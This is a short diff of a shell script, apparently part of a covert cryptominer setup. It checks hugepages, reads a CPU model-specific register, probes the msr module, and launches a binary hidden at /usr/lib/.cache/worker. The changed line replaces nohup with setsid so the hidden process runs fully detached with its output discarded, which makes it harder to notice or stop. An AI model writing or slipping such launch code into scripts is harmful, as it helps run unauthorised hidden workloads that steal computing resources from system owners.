@@ -5,5 +5,5 @@
 cat /proc/sys/vm/nr_hugepages /proc/cpuinfo > /dev/null 2>&1
 dd if=/dev/cpu/0/msr of=/dev/null bs=8 count=1 2>/dev/null
 modprobe -n msr 2>/dev/null
-nohup /usr/lib/.cache/worker > /dev/null 2>&1 &
+setsid /usr/lib/.cache/worker > /dev/null 2>&1 &
 wait
